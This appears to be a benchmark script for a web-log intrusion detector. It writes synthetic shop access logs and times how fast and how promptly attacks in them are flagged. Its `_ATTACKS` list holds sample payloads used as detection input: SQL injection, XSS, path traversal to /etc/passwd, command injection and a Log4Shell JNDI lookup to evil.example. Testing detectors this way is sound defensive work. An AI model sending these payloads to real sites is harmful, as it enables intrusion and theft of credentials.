"""Speed and memory of a watch with everything on, and the time from an event to its alert.

The lines are made: combined format, unique query strings, a share of them with an attack, clients and paths
of a small shop. `wc -l` reads the same file. CPU is user and system time of the process, start included.
"""

from __future__ import annotations

import os
import random
import re
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import NamedTuple

from web_material import WEB

_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15 Mobile Safari/604.1",
    "curl/8.14.1",
)
_WORDS = (
    *(
        "red",
        "blue",
        "green",
        "small",
        "large",
        "shoes",
        "shirt",
        "coat",
        "summer",
        "winter",
        "sale",
        "cotton",
    ),
    *("wool", "kids", "men", "women", "size", "leather", "boots", "caf%C3%A9", "r%C3%B6cke", "sock", "hat"),
    *("belt", "bag", "order", "by", "select", "best", "price", "and", "or", "like", "new", "from", "union"),
)
_ATTACKS = (
    "id=-1%27%20UNION%20SELECT%20{n},password%20FROM%20users--%20",
    "q=%3Cscript%3Ealert({n})%3C/script%3E",
    "file=../../../../../../etc/passwd%00{n}",
    "host=127.0.0.1;cat%20/etc/passwd%20{n}",
    "x=%24%7Bjndi:ldap://evil.example/{n}%7D",
)
_ATTACK = (
    "198.51.100.7 - - [{moment:%d/%b/%Y:%H:%M:%S} +0000] "
    '"GET /shop/item?id=-1%27%20UNION%20SELECT%20{mark},2%20FROM%20users--%20 HTTP/1.1" 200 9 "-" "x"\n'
)
_PIECES = 20
_AFTER = 10
_ENDED = re.compile(r"([\d,]+) lines examined in ([\d.]+) s.*?([\d,]+) hits?, ([\d,]+) alerts?")


class Speed(NamedTuple):
    """One replay: lines, CPU and wall seconds, the most memory in MiB, hits, alerts."""

    lines: int
    cpu: float
    wall: float
    memory: float
    hits: int
    alerts: int


def made(count: int, attacks: float = 0.005) -> Path:
    """A log of so many lines, the same for the same count."""
    path = WEB / "made" / f"shop-{count}-{attacks}.log"
    if path.is_file():
        return path
    path.parent.mkdir(parents=True, exist_ok=True)
    chance = random.Random(7)  # noqa: S311 - lines made up
    begin = datetime(2026, 11, 20, tzinfo=UTC)
    with path.open("w", encoding="ascii") as out:
        for number in range(count):
            moment = begin + timedelta(seconds=number * 86_400 / max(count, 1_000_000))
            out.write(line(chance, number, moment, attack=chance.random() < attacks))
    return path


def line(chance: random.Random, number: int, moment: datetime, *, attack: bool) -> str:
    """One line with a query string of its own."""
    client = f"203.0.{chance.randrange(64)}.{chance.randrange(250)}"
    if attack:
        client = f"198.51.100.{chance.randrange(20)}"
        query = chance.choice(_ATTACKS).format(n=number)
    else:
        words = "+".join(chance.choice(_WORDS) for _ in range(1 + number % 4))
        query = f"q={words}&page={number % 31}&n={number}&s={chance.getrandbits(48):x}"
    status = 404 if number % 37 == 0 else 200
    return (
        f"{client} - - [{moment:%d/%b/%Y:%H:%M:%S} +0000] "
        f'"GET /shop/category-{number % 40}/item-{number % 977}?{query} HTTP/1.1" {status} '
        f'{300 + number % 9000} "https://shop.example/" "{_AGENTS[number % len(_AGENTS)]}"\n'
    )


def replay(path: Path) -> Speed:
    """Replay a log, everything on, with an empty ledger."""
    room = WEB / "watch" / "speed"
    room.mkdir(parents=True, exist_ok=True)
    for old in room.iterdir():
        old.unlink()
    began = time.monotonic()
    command = [
        sys.executable,
        "-m",
        "vedette",
        "watch",
        str(path),
        "--replay",
        "--ledger",
        str(room / "ledger.db"),
    ]
    command += ["--format", "text", "--format", f"jsonl={room / 'hits.jsonl'}"]
    with subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=room
    ) as process:
        told = process.stdout.read() if process.stdout else ""
        _, status, usage = os.wait4(process.pid, 0)
        process.returncode = os.waitstatus_to_exitcode(status)
    ended = _ENDED.search(told)
    if ended is None:
        raise SystemExit(f"the replay ended with {process.returncode}")
    figures = [int(ended[number].replace(",", "")) for number in (1, 3, 4)]
    cpu = usage.ru_utime + usage.ru_stime
    return Speed(figures[0], cpu, time.monotonic() - began, usage.ru_maxrss / 1024, *figures[1:])


def counted(path: Path) -> float:
    """CPU seconds of `wc -l` on the same file, the least of three."""
    best = float("inf")
    for _ in range(3):
        before = os.times()
        subprocess.run(["wc", "-l", str(path)], check=True, capture_output=True)
        after = os.times()
        spent = after.children_user + after.children_system - before.children_user - before.children_system
        best = min(best, spent)
    return max(best, 0.001)


def latency(rate: int, seconds: int) -> list[float]:
    """Seconds from the moment an attack was written to a followed log until its hit was told, sorted.

    Args:
        rate: lines a second; each second has twenty attacks.
        seconds: how long.
    """
    room = WEB / "watch" / "latency"
    room.mkdir(parents=True, exist_ok=True)
    for old in room.iterdir():
        old.unlink()
    log, hits = room / "access.log", room / "hits.jsonl"
    chance = random.Random(11)  # noqa: S311 - lines made up
    head = [line(chance, number, datetime.now(UTC), attack=False) for number in range(1000)]
    log.write_text("".join(head), encoding="ascii")
    command = [
        sys.executable,
        "-m",
        "vedette",
        "watch",
        str(log),
        "--follow",
        "--ledger",
        str(room / "ledger.db"),
    ]
    command += ["--format", f"jsonl={hits}"]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=room) as process:
        time.sleep(3)
        try:
            return sorted(_write(log, rate, seconds, chance, hits))
        finally:
            process.terminate()


def _write(log: Path, rate: int, seconds: int, chance: random.Random, hits: Path) -> list[float]:
    """Twenty pieces a second, each with one attack that has a number of its own; polls for hits meanwhile."""
    now = datetime.now(UTC)
    block = "".join(line(chance, number, now, attack=False) for number in range(rate // _PIECES - 1))
    written: dict[str, float] = {}
    late: dict[str, float] = {}
    began, at = time.monotonic(), 0
    with log.open("a", encoding="ascii") as out:
        for number in range((seconds + _AFTER) * _PIECES):
            time.sleep(max(0.0, began + number / _PIECES - time.monotonic()))
            if number < seconds * _PIECES:
                mark = f"n{number:06}z"
                out.write(block + _ATTACK.format(moment=datetime.now(UTC), mark=mark))
                out.flush()
                written[mark] = time.monotonic()
            at = _poll(hits, at, written, late)
    return [late.get(mark, float("inf")) for mark in written]


def _poll(hits: Path, at: int, written: dict[str, float], late: dict[str, float]) -> int:
    """Note which hits came since the last look; right to a twentieth of a second."""
    if not hits.is_file():
        return at
    with hits.open("rb") as read:
        read.seek(at)
        new = read.read()
    moment = time.monotonic()
    for mark in re.findall(r"n\d{6}z", new.decode("ascii", "replace").lower()):
        if mark in written:
            late.setdefault(mark, moment - written[mark])
    return at + len(new)
